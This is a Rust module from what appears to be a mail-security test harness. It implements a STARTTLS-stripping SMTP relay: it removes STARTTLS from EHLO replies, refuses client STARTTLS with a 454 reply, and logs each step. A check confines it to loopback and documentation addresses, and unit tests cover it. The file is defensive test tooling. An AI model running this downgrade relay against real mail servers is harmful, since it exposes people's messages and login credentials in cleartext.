//! An on-path attacker for the RFC 7672 §1.3 downgrade: a relay that hides STARTTLS from the client.
//!
//! It relays SMTP line by line between a client and `upstream`, deletes STARTTLS from EHLO replies (keeping the
//! "250-"/"250 " continuation right) and answers a STARTTLS command itself with 454 without forwarding it. Everything
//! else passes through unchanged, so the upstream endpoint's transcript shows what a fooled client sends.

use std::collections::{BTreeMap, VecDeque};
use std::future::Future;
use std::net::{IpAddr, SocketAddr};
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::watch;

use super::acceptor::accept_until;
use super::activity::Activity;
use super::line::{Line, LineIo};

const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);
/// Both sides silent this long: give up.
const IDLE_TIMEOUT: Duration = Duration::from_secs(60);
/// Longest relayed line (message lines included).
const LINE_LIMIT: usize = 4 * 1024 * 1024;
const STARTTLS_REFUSAL: &[u8] = b"454 4.7.0 TLS not available due to temporary reason\r\n";

/// What the attacker did, per relayed connection.
#[derive(Clone, Default)]
pub struct AttackerLog(Arc<AttackerInner>);

#[derive(Default)]
struct AttackerInner {
    state: Mutex<AttackerState>,
    /// Relays still running; `settle` waits for zero so observations are complete.
    active: Activity,
}

#[derive(Default)]
struct AttackerState {
    next: u32,
    events: BTreeMap<u32, Vec<String>>,
}

impl AttackerLog {
    /// Events as "<connection>: <what>", ordered by connection, then by time.
    pub fn events(&self) -> Vec<String> {
        let state = self.lock();
        state
            .events
            .iter()
            .flat_map(|(n, evs)| evs.iter().map(move |e| format!("{n}: {e}")))
            .collect()
    }

    /// Wait until every accepted relay has ended (true), or `timeout` passes (false).
    pub async fn settle(&self, timeout: Duration) -> bool {
        self.0.active.settle(timeout).await
    }

    fn begin(&self) -> RelayGuard {
        let n = {
            let mut state = self.lock();
            state.next += 1;
            let n = state.next;
            state.events.insert(n, Vec::new());
            n
        };
        self.0.active.begin();
        RelayGuard { log: self.clone(), n }
    }

    fn push(&self, connection: u32, event: impl Into<String>) {
        self.lock().events.entry(connection).or_default().push(event.into());
    }

    fn lock(&self) -> MutexGuard<'_, AttackerState> {
        // Single pushes cannot leave the state half-updated, so a poisoned lock is still usable.
        self.0.state.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
    }
}

/// Counts a relay as active until it is dropped, whichever way the relay ends.
struct RelayGuard {
    log: AttackerLog,
    n: u32,
}

impl Drop for RelayGuard {
    fn drop(&mut self) {
        self.log.0.active.end();
    }
}

impl std::fmt::Debug for AttackerLog {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_tuple("AttackerLog").field(&self.events().len()).finish()
    }
}

/// Runs the STARTTLS-stripping relay on `listener` until `shutdown` completes, then closes every relayed
/// connection and returns. `upstream` must be a loopback or documentation address (RFC 5737 / RFC 3849): the
/// harness never dials anything outside its world.
pub async fn serve_strip_starttls(
    listener: TcpListener,
    upstream: SocketAddr,
    log: AttackerLog,
    shutdown: impl Future<Output = ()> + Send + 'static,
) {
    accept_until(
        listener,
        shutdown,
        |client, stop| relay(client, upstream, log.begin(), stop),
        |_| {},
    )
    .await;
}

/// Loopback, or the documentation ranges the world's zones use (only ever bound inside a private namespace).
fn dialable(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => {
            let o = v4.octets();
            v4.is_loopback() || matches!((o[0], o[1], o[2]), (192, 0, 2) | (198, 51, 100) | (203, 0, 113))
        }
        IpAddr::V6(v6) => {
            let s = v6.segments();
            v6.is_loopback() || (s[0] == 0x2001 && s[1] == 0x0db8)
        }
    }
}

/// What the next complete upstream reply answers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    Greeting,
    Ehlo,
    Data,
    Other,
    /// A STARTTLS the relay answers itself, in order with the replies before it (RFC 2920 keeps replies in order).
    Refusal,
}

/// A reply line: "ddd", "ddd text" (final) or "ddd-text" (continuation).
fn reply_line(line: &[u8]) -> Option<(&[u8], bool, &[u8])> {
    if line.len() < 3 || !line[..3].iter().all(u8::is_ascii_digit) {
        return None;
    }
    match line.get(3) {
        None => Some((&line[..3], true, b"")),
        Some(b' ') => Some((&line[..3], true, &line[4..])),
        Some(b'-') => Some((&line[..3], false, &line[4..])),
        Some(_) => None,
    }
}

/// Removes STARTTLS from a multi-line EHLO reply and re-numbers continuations. Returns None if there was none.
fn strip_starttls(lines: &[Vec<u8>]) -> Option<Vec<u8>> {
    let parsed: Vec<_> = lines.iter().filter_map(|l| reply_line(l)).collect();
    if parsed.len() != lines.len() {
        return None;
    }
    let is_starttls = |text: &[u8]| {
        let keyword = text.split(|b| *b == b' ').next().unwrap_or_default();
        keyword.eq_ignore_ascii_case(b"STARTTLS")
    };
    // The first line is the greeting (domain), never an extension (RFC 5321 §4.1.1.1).
    let kept: Vec<_> = parsed
        .iter()
        .enumerate()
        .filter(|(i, (_, _, text))| *i == 0 || !is_starttls(text))
        .map(|(_, p)| p)
        .collect();
    if kept.len() == parsed.len() {
        return None;
    }
    let mut out = Vec::new();
    for (i, (code, _, text)) in kept.iter().enumerate() {
        out.extend_from_slice(code);
        out.push(if i + 1 == kept.len() { b' ' } else { b'-' });
        out.extend_from_slice(text);
        out.extend_from_slice(b"\r\n");
    }
    Some(out)
}

struct Relay {
    n: u32,
    log: AttackerLog,
    to_client: OwnedWriteHalf,
    to_server: OwnedWriteHalf,
    expect: VecDeque<Expect>,
    reply: Vec<Vec<u8>>,
    in_body: bool,
}

enum Side {
    Client(std::io::Result<Line>),
    Server(std::io::Result<Line>),
}

async fn relay(client: TcpStream, upstream: SocketAddr, guard: RelayGuard, mut stop: watch::Receiver<bool>) {
    let (log, n) = (guard.log.clone(), guard.n);
    if !dialable(upstream.ip()) {
        log.push(n, "refused: upstream is outside loopback and the documentation ranges");
        return;
    }
    let server = match tokio::time::timeout(CONNECT_TIMEOUT, TcpStream::connect(upstream)).await {
        Ok(Ok(s)) => {
            let _ = s.set_nodelay(true);
            s
        }
        _ => {
            log.push(n, "upstream unreachable");
            return;
        }
    };
    log.push(n, "relaying");
    let (client_read, to_client) = client.into_split();
    let (server_read, to_server) = server.into_split();
    let mut from_client: LineIo<OwnedReadHalf> = LineIo::new(client_read);
    let mut from_server: LineIo<OwnedReadHalf> = LineIo::new(server_read);
    let mut r = Relay {
        n,
        log: log.clone(),
        to_client,
        to_server,
        expect: VecDeque::from([Expect::Greeting]),
        reply: Vec::new(),
        in_body: false,
    };
    let idle = tokio::time::sleep(IDLE_TIMEOUT);
    tokio::pin!(idle);
    let end = loop {
        let side = tokio::select! {
            l = from_client.read_line(LINE_LIMIT) => Side::Client(l),
            l = from_server.read_line(LINE_LIMIT) => Side::Server(l),
            _ = &mut idle => break "idle timeout",
            _ = stop.wait_for(|s| *s) => break "shutdown",
        };
        idle.as_mut().reset(tokio::time::Instant::now() + IDLE_TIMEOUT);
        let outcome = match side {
            Side::Client(Ok(Line::Complete(line))) => r.client_line(line).await,
            Side::Server(Ok(Line::Complete(line))) => r.server_line(line).await,
            // After QUIT both ends close at once, and which EOF the relay reads first is a
            // race: a normal end is recorded as "end of stream" so observations are deterministic.
            Side::Client(Ok(Line::Eof)) | Side::Server(Ok(Line::Eof)) => Err("end of stream"),
            Side::Client(Ok(Line::TooLong)) | Side::Server(Ok(Line::TooLong)) => Err("line too long"),
            Side::Client(Err(_)) => Err("client error"),
            Side::Server(Err(_)) => Err("upstream error"),
        };
        if let Err(end) = outcome {
            break end;
        }
    };
    let _ = r.to_server.shutdown().await;
    let _ = r.to_client.shutdown().await;
    log.push(n, format!("closed: {end}"));
}

impl Relay {
    async fn client_line(&mut self, line: Vec<u8>) -> Result<(), &'static str> {
        if self.in_body {
            if line == b"." {
                self.in_body = false;
                self.expect.push_back(Expect::Other);
            }
            return send(&mut self.to_server, &line).await.map_err(|_| "upstream error");
        }
        let verb = line
            .split(|b| *b == b' ')
            .next()
            .unwrap_or_default()
            .to_ascii_uppercase();
        let expect = match verb.as_slice() {
            b"STARTTLS" => {
                self.log.push(self.n, "answered STARTTLS with 454 (not forwarded)");
                self.expect.push_back(Expect::Refusal);
                return self.flush_refusals().await;
            }
            b"EHLO" => Expect::Ehlo,
            b"DATA" => Expect::Data,
            _ => Expect::Other,
        };
        self.expect.push_back(expect);
        send(&mut self.to_server, &line).await.map_err(|_| "upstream error")
    }

    async fn server_line(&mut self, line: Vec<u8>) -> Result<(), &'static str> {
        let Some((code, last, _)) = reply_line(&line) else {
            // Not a reply line: pass it (and whatever was collected) through untouched.
            let mut out = Vec::new();
            for l in self.reply.drain(..).chain(std::iter::once(line)) {
                out.extend_from_slice(&l);
                out.extend_from_slice(b"\r\n");
            }
            return self.to_client.write_all(&out).await.map_err(|_| "client error");
        };
        let code = code.to_vec();
        self.reply.push(line);
        if !last {
            return Ok(());
        }
        let lines = std::mem::take(&mut self.reply);
        let answers = self.expect.pop_front();
        let mut out = None;
        match answers {
            Some(Expect::Ehlo) if code == b"250" => {
                if let Some(stripped) = strip_starttls(&lines) {
                    self.log.push(self.n, "stripped STARTTLS from EHLO reply");
                    out = Some(stripped);
                }
            }
            Some(Expect::Data) if code == b"354" => self.in_body = true,
            _ => {}
        }
        let out = out.unwrap_or_else(|| {
            let mut raw = Vec::new();
            for l in &lines {
                raw.extend_from_slice(l);
                raw.extend_from_slice(b"\r\n");
            }
            raw
        });
        self.to_client.write_all(&out).await.map_err(|_| "client error")?;
        self.flush_refusals().await
    }

    /// Answers STARTTLS commands whose turn has come.
    async fn flush_refusals(&mut self) -> Result<(), &'static str> {
        while self.expect.front() == Some(&Expect::Refusal) {
            self.expect.pop_front();
            self.to_client
                .write_all(STARTTLS_REFUSAL)
                .await
                .map_err(|_| "client error")?;
        }
        Ok(())
    }
}

async fn send(w: &mut OwnedWriteHalf, line: &[u8]) -> std::io::Result<()> {
    let mut out = Vec::with_capacity(line.len() + 2);
    out.extend_from_slice(line);
    out.extend_from_slice(b"\r\n");
    w.write_all(&out).await
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(text: &str) -> Vec<Vec<u8>> {
        text.split("\r\n")
            .filter(|l| !l.is_empty())
            .map(|l| l.as_bytes().to_vec())
            .collect()
    }

    #[test]
    fn strips_starttls_in_the_middle_and_at_the_end() {
        let middle = lines("250-mx\r\n250-PIPELINING\r\n250-STARTTLS\r\n250 8BITMIME\r\n");
        assert_eq!(
            strip_starttls(&middle).as_deref(),
            Some(&b"250-mx\r\n250-PIPELINING\r\n250 8BITMIME\r\n"[..])
        );
        let last = lines("250-mx\r\n250-PIPELINING\r\n250 starttls\r\n");
        assert_eq!(
            strip_starttls(&last).as_deref(),
            Some(&b"250-mx\r\n250 PIPELINING\r\n"[..])
        );
        let none = lines("250-mx\r\n250 8BITMIME\r\n");
        assert_eq!(strip_starttls(&none), None);
        // A host literally named STARTTLS in the greeting line is not an extension.
        assert_eq!(strip_starttls(&lines("250 STARTTLS\r\n")), None);
    }

    #[test]
    fn reply_lines() {
        assert_eq!(reply_line(b"250"), Some((&b"250"[..], true, &b""[..])));
        assert_eq!(reply_line(b"250-x"), Some((&b"250"[..], false, &b"x"[..])));
        assert_eq!(reply_line(b"25"), None);
        assert_eq!(reply_line(b"250x"), None);
    }

    #[test]
    fn only_loopback_and_documentation_addresses_are_dialled() {
        for ok in [
            "127.0.0.1",
            "127.1.2.3",
            "192.0.2.10",
            "198.51.100.1",
            "203.0.113.9",
            "::1",
            "2001:db8::25",
        ] {
            assert!(dialable(ok.parse().expect("literal")), "{ok}");
        }
        for bad in ["10.0.0.1", "192.168.1.1", "8.8.8.8", "2001:4860::8888", "192.0.3.1"] {
            assert!(!dialable(bad.parse().expect("literal")), "{bad}");
        }
    }
}
